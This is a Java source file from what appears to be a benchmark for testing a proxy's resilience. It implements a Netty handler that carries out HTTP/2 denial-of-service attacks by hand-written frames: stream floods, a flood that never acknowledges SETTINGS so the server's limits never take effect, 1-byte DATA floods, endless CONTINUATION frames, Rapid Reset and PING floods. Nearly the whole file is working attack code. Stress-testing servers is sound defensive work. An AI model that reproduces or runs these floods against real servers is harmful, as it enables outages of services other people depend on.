package io.portcullis.bench.abuse;

import static io.portcullis.bench.abuse.H2Wire.FLAG_END_HEADERS;
import static io.portcullis.bench.abuse.H2Wire.FLAG_END_STREAM;

import io.netty.buffer.ByteBuf;
import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.ChannelInboundHandlerAdapter;
import java.util.HashMap;
import java.util.LinkedHashSet;
import java.util.Map;
import java.util.Set;

/**
 * One attacking HTTP/2 connection (prior knowledge, cleartext), frames written by hand ({@link H2Wire}), the
 * server's frames read by an {@link H2FrameReader} in front of it. What it sends depends on the {@link Mode}; it
 * counts response statuses, RST_STREAM and GOAWAY codes and PING acknowledgements, answers the server's PINGs, and
 * after a GOAWAY opens no more streams (the keeper reconnects once the server closes).
 *
 * <p>Event-loop confined. Floods write batches of about 16 KiB while the channel is writable and resume when it
 * is writable again, so the attacker's own memory stays bounded whatever the proxy does.
 */
final class H2Abuse extends ChannelInboundHandlerAdapter implements H2FrameReader.Listener {

    /** The HTTP/2 attack classes. */
    enum Mode {
        /** Streams to the slow path, far past the advertised limit, never acknowledging the server's SETTINGS. */
        FLOOD_NO_ACK,
        /** Streams to the slow path up to the per-connection count, SETTINGS acknowledged. */
        FLOOD,
        /** POST streams whose bodies are 1-byte DATA frames, within flow control. */
        DATA_FLOOD,
        /** HEADERS without END_HEADERS, then empty CONTINUATION frames forever. */
        CONTINUATION_FLOOD,
        /** HEADERS for the slow path immediately followed by RST_STREAM(CANCEL), repeated. */
        RAPID_RESET,
        /** PING frames as fast as the connection takes them. */
        PING_FLOOD
    }

    /** The request header blocks an attack sends, built once ({@link H2Wire#requestBlock}). */
    record Blocks(byte[] slowGet, byte[] fastGet, byte[] uploadPost) {
        static Blocks of(String slowPath, String fastPath, String uploadPath) {
            return new Blocks(H2Wire.requestBlock("GET", slowPath, "bench"),
                    H2Wire.requestBlock("GET", fastPath, "bench"), H2Wire.requestBlock("POST", uploadPath, "bench"));
        }
    }

    private static final int BATCH_BYTES = 16 * 1024;
    private static final int DEFAULT_WINDOW = 65_535;
    private static final int OUR_WINDOW = 1 << 30;

    private final Mode mode;
    private final int streamsWanted;
    private final Blocks blocks;
    private final AttackStats stats;
    private final Set<Integer> open = new LinkedHashSet<>();
    private final Map<Integer, Integer> sendWindows = new HashMap<>();
    private int nextStreamId = 1;
    private int initialWindow = DEFAULT_WINDOW;
    private long connectionWindow = DEFAULT_WINDOW;
    private long received;
    private long pingPayload;
    private boolean started;
    private boolean goaway;

    H2Abuse(Mode mode, int streamsWanted, Blocks blocks, AttackStats stats) {
        this.mode = mode;
        this.streamsWanted = streamsWanted;
        this.blocks = blocks;
        this.stats = stats;
    }

    @Override
    public void channelActive(ChannelHandlerContext ctx) {
        ByteBuf b = ctx.alloc().buffer();
        b.writeBytes(H2Wire.PREFACE);
        H2Wire.settings(b, H2Wire.SETTINGS_ENABLE_PUSH, 0, H2Wire.SETTINGS_INITIAL_WINDOW_SIZE, OUR_WINDOW);
        H2Wire.windowUpdate(b, 0, OUR_WINDOW - DEFAULT_WINDOW);
        ctx.write(b);
        if (mode == Mode.FLOOD_NO_ACK) {
            start(ctx); // at once: the server's limit applies only once its SETTINGS are acknowledged
        }
        ctx.flush();
        ctx.fireChannelActive();
    }

    private void start(ChannelHandlerContext ctx) {
        started = true;
        switch (mode) {
            case FLOOD_NO_ACK, FLOOD -> topUpStreams(ctx);
            case DATA_FLOOD -> {
                topUpStreams(ctx);
                pump(ctx);
            }
            case CONTINUATION_FLOOD -> {
                ByteBuf b = ctx.alloc().buffer();
                H2Wire.headers(b, nextStreamId, blocks.fastGet(), FLAG_END_STREAM); // no END_HEADERS: stays open
                stats.count("h2.streams");
                ctx.write(b);
                pump(ctx);
            }
            case RAPID_RESET, PING_FLOOD -> pump(ctx);
        }
    }

    /** Opens streams until {@code streamsWanted} are open (FLOOD*, DATA_FLOOD). */
    private void topUpStreams(ChannelHandlerContext ctx) {
        if (goaway || stats.ending()) {
            return;
        }
        ByteBuf b = ctx.alloc().buffer();
        while (open.size() < streamsWanted && nextStreamId > 0) {
            int id = nextStreamId;
            nextStreamId += 2;
            open.add(id);
            stats.count("h2.streams");
            if (mode == Mode.DATA_FLOOD) {
                H2Wire.headers(b, id, blocks.uploadPost(), FLAG_END_HEADERS);
                sendWindows.put(id, initialWindow);
            } else {
                H2Wire.headers(b, id, blocks.slowGet(), FLAG_END_HEADERS | FLAG_END_STREAM);
            }
        }
        ctx.writeAndFlush(b);
    }

    /** Writes the flood's frames while the connection takes them. */
    private void pump(ChannelHandlerContext ctx) {
        while (ctx.channel().isActive() && ctx.channel().isWritable() && !goaway && !stats.ending()) {
            ByteBuf b = ctx.alloc().buffer(BATCH_BYTES + 64);
            int frames = 0;
            while (b.readableBytes() < BATCH_BYTES && fill(b)) {
                frames++;
            }
            if (frames == 0) {
                b.release();
                break; // DATA_FLOOD out of flow-control window: a WINDOW_UPDATE resumes it
            }
            ctx.write(b);
        }
        ctx.flush();
    }

    /** Adds one unit of the flood to {@code b}; false when nothing can be sent now. */
    private boolean fill(ByteBuf b) {
        switch (mode) {
            case CONTINUATION_FLOOD -> {
                H2Wire.emptyContinuation(b, 1);
                stats.count("h2.continuation_frames");
                return true;
            }
            case RAPID_RESET -> {
                if (nextStreamId < 0) {
                    return false;
                }
                H2Wire.headers(b, nextStreamId, blocks.slowGet(), FLAG_END_HEADERS | FLAG_END_STREAM);
                H2Wire.rstStream(b, nextStreamId, H2Wire.CANCEL);
                nextStreamId += 2;
                stats.count("h2.streams");
                return true;
            }
            case PING_FLOOD -> {
                H2Wire.ping(b, ++pingPayload, false);
                stats.count("h2.pings");
                return true;
            }
            case DATA_FLOOD -> {
                return dataByte(b);
            }
            default -> {
                return false;
            }
        }
    }

    /** One 1-byte DATA frame on the first open stream with window left, if the connection has window left. */
    private boolean dataByte(ByteBuf b) {
        if (connectionWindow <= 0) {
            return false;
        }
        for (Integer id : open) {
            int window = sendWindows.getOrDefault(id, 0);
            if (window > 0) {
                H2Wire.dataByte(b, id);
                sendWindows.put(id, window - 1);
                connectionWindow--;
                stats.count("h2.data_frames");
                return true;
            }
        }
        return false;
    }

    @Override
    public void channelWritabilityChanged(ChannelHandlerContext ctx) {
        if (started && ctx.channel().isWritable() && mode != Mode.FLOOD && mode != Mode.FLOOD_NO_ACK) {
            pump(ctx);
        }
        ctx.fireChannelWritabilityChanged();
    }

    @Override
    public void onSettings(ChannelHandlerContext ctx, boolean ack, ByteBuf payload) {
        if (ack) {
            stats.count("h2.settings_acks_received");
            return;
        }
        for (int i = payload.readerIndex(); i + 6 <= payload.writerIndex(); i += 6) {
            int id = payload.getUnsignedShort(i);
            long value = payload.getUnsignedInt(i + 2);
            if (id == H2Wire.SETTINGS_MAX_CONCURRENT_STREAMS) {
                stats.count("h2.advertised_max_streams." + value);
            } else if (id == H2Wire.SETTINGS_INITIAL_WINDOW_SIZE) {
                int delta = (int) value - initialWindow;
                initialWindow = (int) value;
                sendWindows.replaceAll((s, w) -> w + delta);
            }
        }
        if (mode == Mode.FLOOD_NO_ACK) {
            return; // never acknowledged: the server's limits are never in force
        }
        ByteBuf b = ctx.alloc().buffer();
        H2Wire.settingsAck(b);
        ctx.writeAndFlush(b);
        if (!started) {
            start(ctx);
        }
    }

    @Override
    public void onHeaders(ChannelHandlerContext ctx, int stream, CharSequence status, boolean endStream) {
        stats.count("h2.status." + (status == null ? "trailers" : status));
        if (endStream) {
            ended(ctx, stream);
        }
    }

    @Override
    public void onData(ChannelHandlerContext ctx, int stream, int length, boolean endStream) {
        received += length;
        if (received > OUR_WINDOW / 2) { // give the connection window back long before it runs out
            ByteBuf b = ctx.alloc().buffer();
            H2Wire.windowUpdate(b, 0, (int) received);
            ctx.writeAndFlush(b);
            received = 0;
        }
        if (endStream) {
            ended(ctx, stream);
        }
    }

    @Override
    public void onRstStream(ChannelHandlerContext ctx, int stream, long errorCode) {
        stats.count("h2.rst." + H2Wire.errorName(errorCode));
        ended(ctx, stream);
    }

    @Override
    public void onGoaway(ChannelHandlerContext ctx, long errorCode) {
        goaway = true;
        stats.count("h2.goaway." + H2Wire.errorName(errorCode));
    }

    @Override
    public void onPing(ChannelHandlerContext ctx, boolean ack, long payload) {
        if (ack) {
            stats.count("h2.ping_acks");
            return;
        }
        ByteBuf b = ctx.alloc().buffer();
        H2Wire.ping(b, payload, true);
        ctx.writeAndFlush(b);
    }

    @Override
    public void onWindowUpdate(ChannelHandlerContext ctx, int stream, int increment) {
        if (stream == 0) {
            connectionWindow += increment;
        } else {
            sendWindows.computeIfPresent(stream, (id, w) -> w + increment);
        }
        if (mode == Mode.DATA_FLOOD && started) {
            pump(ctx);
        }
    }

    /** A stream ended (response complete or reset): the stream floods replace it. */
    private void ended(ChannelHandlerContext ctx, int stream) {
        if (!open.remove(stream)) {
            return;
        }
        sendWindows.remove(stream);
        if (mode == Mode.FLOOD || mode == Mode.FLOOD_NO_ACK || mode == Mode.DATA_FLOOD) {
            topUpStreams(ctx);
        }
        if (mode == Mode.DATA_FLOOD) {
            pump(ctx);
        }
    }

    @Override
    public void exceptionCaught(ChannelHandlerContext ctx, Throwable cause) {
        stats.count("error." + cause.getClass().getSimpleName());
        ctx.close();
    }
}
